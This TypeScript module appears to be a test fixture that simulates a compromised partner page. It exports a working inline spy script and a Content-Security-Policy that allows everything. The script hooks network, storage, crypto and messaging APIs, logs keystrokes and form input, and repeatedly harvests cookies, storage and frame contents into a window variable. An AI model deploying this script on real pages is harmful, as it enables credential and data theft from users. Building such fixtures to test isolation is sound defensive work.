/**
 * A partner's page that has been taken over: it changes whatever the elements may use before they run, looks into every frame and storage again and again, and
 * writes down all that it gets hold of. Handed to the browser as text, so it refers to nothing outside itself.
 */
const spy = (): void => {
  const written: string[] = [];
  const text = (thing: unknown): string => {
    if (typeof thing === 'string') return thing;
    if (thing instanceof ArrayBuffer) return String.fromCharCode(...new Uint8Array(thing));
    if (ArrayBuffer.isView(thing)) return String.fromCharCode(...new Uint8Array(thing.buffer));
    if (thing instanceof FormData) return JSON.stringify([...thing]);
    try {
      return JSON.stringify(thing) ?? String(thing);
    } catch {
      return String(thing);
    }
  };
  const note = (where: string, ...things: unknown[]): void => {
    const line = `${where} ${things.map(text).join(' ')}`;
    if (written.at(-1) !== line) written.push(line);
    for (const thing of things) if (thing instanceof Blob) void thing.arrayBuffer().then((bytes) => note('blob', bytes));
  };
  Object.assign(window, { written });

  /** Writes down what a method is given and what comes of it. */
  const overhear = (owner: object, name: string): void => {
    const method = Reflect.get(owner, name) as (...given: unknown[]) => unknown;
    Reflect.set(owner, name, function (this: unknown, ...given: unknown[]) {
      note(name, ...given);
      const result = method.apply(this, given);
      if (result instanceof Promise) result.then((value: unknown) => note(`${name} gave`, value), () => undefined);
      else note(`${name} gave`, result);
      return result;
    });
  };
  const { parse } = JSON;
  overhear(JSON, 'parse');
  JSON.parse = Object.assign((given: string) => (note('parse', given), parse(given) as unknown), {});
  for (const name of ['open', 'send', 'setRequestHeader']) overhear(XMLHttpRequest.prototype, name);
  for (const name of ['append', 'set', 'get']) overhear(FormData.prototype, name);
  for (const name of ['set', 'append']) overhear(Headers.prototype, name);
  for (const name of ['setItem', 'getItem']) overhear(Storage.prototype, name);
  overhear(crypto, 'getRandomValues');
  if ('randomUUID' in crypto) overhear(crypto, 'randomUUID');
  overhear(navigator, 'sendBeacon');
  overhear(window, 'postMessage');
  overhear(Blob.prototype, 'arrayBuffer');
  for (const name of ['toBlob', 'toDataURL']) overhear(HTMLCanvasElement.prototype, name);

  const asked = window.fetch;
  window.fetch = async (...given) => {
    note('fetch', ...given, given[1]?.headers, given[1]?.body);
    const answer = await asked(...given);
    void answer.clone().text().then((body) => note('answer', body));
    return answer;
  };

  const roots: ShadowRoot[] = [];
  const { attachShadow } = Element.prototype;
  Element.prototype.attachShadow = function (options) {
    const root = attachShadow.call(this, { ...options, mode: 'open' });
    roots.push(root);
    return root;
  };

  // Both ends of every channel, while they are here.
  const ports: MessagePort[] = [];
  const Channel = MessageChannel;
  const { postMessage } = MessagePort.prototype;
  MessagePort.prototype.postMessage = function (this: MessagePort, ...given: unknown[]) {
    note('port', ...given);
    postMessage.apply(this, given as [unknown]);
  };
  Object.assign(window, {
    ports,
    MessageChannel: function () {
      const channel = new Channel();
      ports.push(channel.port1);
      channel.port1.addEventListener('message', ({ data }) => note('heard', data));
      return channel;
    },
  });
  const { addEventListener: listen } = EventTarget.prototype;
  EventTarget.prototype.addEventListener = function (this: EventTarget, type: string, ...rest: unknown[]) {
    note('listens', type);
    Reflect.apply(listen, this, [type, ...rest]);
  };
  for (const type of ['message', 'input', 'keydown', 'paste', 'change', 'submit', 'wadul-filed', 'wadul-error']) {
    listen.call(window, type, (event) => note(type, (event as MessageEvent).data, (event as KeyboardEvent).key, { ...event }), true);
  }

  const frames = (): HTMLIFrameElement[] => [document, ...roots].flatMap((root) => [...root.querySelectorAll('iframe')]);
  const tryTo = (where: string, read: () => unknown): void => {
    try {
      note(where, read());
    } catch {
      // the browser keeps it to itself
    }
  };
  const look = async (): Promise<void> => {
    for (const root of [document, ...roots]) {
      note('text', root.textContent ?? root.documentElement?.outerHTML);
      for (const field of root.querySelectorAll<HTMLInputElement>('input, textarea, select')) note('field', field.name, field.value, [...(field.files ?? [])].map((file) => file.name));
    }
    for (const frame of frames()) {
      tryTo('frame', () => frame.contentDocument?.documentElement.outerHTML);
      tryTo('frame', () => frame.contentWindow?.document.body.textContent);
      tryTo('frame', () => frame.contentWindow?.location.href);
      tryTo('frame', () => frame.contentWindow?.localStorage.length);
      tryTo('frame', () => Object.keys(frame.contentWindow ?? {}));
      note('frame', frame.src, frame.outerHTML);
    }
    note('kept', { ...localStorage }, { ...sessionStorage }, document.cookie, location.href);
    note('measured', performance.getEntries().map((entry) => entry.toJSON() as unknown));
    tryTo('databases', async () => note('databases', await indexedDB.databases()));
    if ('caches' in window) note('caches', await caches.keys());
  };
  setInterval(() => void look(), 50);
};

/** The hostile script as a page holds it. `written` and `ports` of its window are what it has. */
export const hostileScript = `<script>(${spy.toString()})()</script>`;

/** A policy that lets such a page do everything. */
export const noPolicy = "default-src * data: blob: 'unsafe-inline' 'unsafe-eval'";
